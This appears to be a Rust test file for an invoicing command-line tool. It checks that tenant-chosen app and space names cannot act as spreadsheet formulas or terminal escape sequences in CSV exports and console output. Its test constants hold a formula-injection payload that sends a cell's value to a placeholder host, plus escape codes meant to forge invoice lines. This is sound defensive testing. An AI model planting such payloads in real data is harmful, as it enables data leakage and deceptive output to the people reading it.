//! What tenants write is only text: on terminals, in logs and in spreadsheets.

use std::path::Path;

use serde_json::json;

use crate::support::month;
use crate::support::program::Program;

const FORMULA: &str = "=HYPERLINK(\"http://x.example/?\"&A2)";
const ESCAPES: &str = "shop\u{1b}[1A\u{1b}[2K\u{202e}\nNet      0.00 EUR";

/// A month of one app of a space, called so.
fn book(app: &str, space: &str) -> Program {
    let program = Program::new();
    month::card(
        &program,
        "name = \"t\"\ncurrency = \"EUR\"\n[[process]]\ninstance_hour = \"1\"\n[[staging]]\nfree = true\n[[task]]\nfree = true\n[[service]]\nfree = true\n",
    );
    let event = |guid: &str, at: &str, state: &str| {
        json!({
            "guid": guid, "created_at": at, "state": {"current": state, "previous": null},
            "app": {"guid": "a", "name": app}, "process": {"guid": "p", "type": "web"},
            "space": {"guid": "s1", "name": space}, "organization": {"guid": "o1"},
            "buildpack": {"guid": null, "name": null}, "task": {"guid": null, "name": null},
            "memory_in_mb_per_instance": {"current": 1024}, "instance_count": {"current": 1},
        })
    };
    let events = [event("e1", "2025-10-05T00:00:00Z", "STARTED"), event("e2", "2025-10-05T01:00:00Z", "STOPPED")];
    std::fs::write(program.folder.path().join("app.json"), json!(events).to_string()).unwrap();
    let import =
        ["import", "--foundation", "eu1", "--app-events", "app.json", "--complete-until", "2025-12-02T00:00:00Z"];
    program.succeed(&import);
    program.succeed(&["invoices", "finalize", "--period", "2025-10", "--rates", "card.toml"]);
    program
}

/// The cells of every CSV file in a folder.
fn cells(folder: &Path) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()) {
        if entry.is_dir() {
            found.extend(cells(&entry));
        } else if entry.extension().is_some_and(|extension| extension == "csv") {
            found.extend(cells_of(&std::fs::read_to_string(entry).unwrap()));
        }
    }
    found
}

fn cells_of(text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
}

#[test]
fn no_text_in_csv_is_a_formula_and_numbers_are_numbers() {
    let program = book(FORMULA, "+1");
    for format in ["csv", "focus"] {
        program.succeed(&["invoices", "export", "--period", "2025-10", "--format", format, "--out", format]);
        let cells = cells(&program.folder.path().join(format));
        assert!(cells.contains(&format!("'{FORMULA}")), "{format}: {cells:?}");
        assert!(!cells.iter().any(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{format}: {cells:?}");
    }
    let shown = program.succeed(&["invoices", "show", "CF-000001", "--format", "csv"]).stdout;
    let shown = cells_of(&shown);
    assert!(shown.contains(&format!("'{FORMULA}")) && shown.contains(&"'+1".to_owned()), "{shown:?}");
    let usage =
        ["usage", "--from", "2025-10-01", "--to", "2025-11-01", "--by", "space,app", "--names", "--format", "csv"];
    let usage = cells_of(&program.succeed(&usage).stdout);
    assert!(usage.contains(&format!("'{FORMULA}")) && usage.contains(&"'+1".to_owned()), "{usage:?}");
    // What is given back is negative, and a number.
    program.succeed(&["invoices", "credit", "CF-000001", "--whole", "--reason", "@goodwill"]);
    let list = cells_of(&program.succeed(&["invoices", "list", "--format", "csv"]).stdout);
    assert!(list.contains(&"-1.00".to_owned()), "{list:?}");
    // JSON holds the names themselves.
    assert!(program.json(&["invoices", "show", "CF-000001"]).to_string().contains("=HYPERLINK"));
}

#[test]
fn names_dont_act_on_the_terminal_they_are_shown_on() {
    let program = book(ESCAPES, "s\u{9b}2K");
    let usage = ["usage", "--from", "2025-10-01", "--to", "2025-11-01", "--by", "space,app", "--names"];
    for arguments in
        [&["invoices", "show", "CF-000001"][..], &["invoices", "explain", "CF-000001", "--line", "1"], &usage]
    {
        let run = program.succeed(arguments);
        let said = format!("{}{}", run.stdout, run.stderr);
        let acts = |letter: char| letter != '\n' && (letter.is_control() || letter == '\u{202e}');
        assert!(!said.contains(acts), "{arguments:?}: {said:?}");
        assert!(said.contains("shop\\u{1b}[1A\\u{1b}[2K\\u{202e}\\nNet"), "{arguments:?}: {said}");
        // Nor do they make lines of their own.
        assert_eq!(said.lines().filter(|line| line.starts_with("Net      0.00")).count(), 0, "{said}");
    }
}
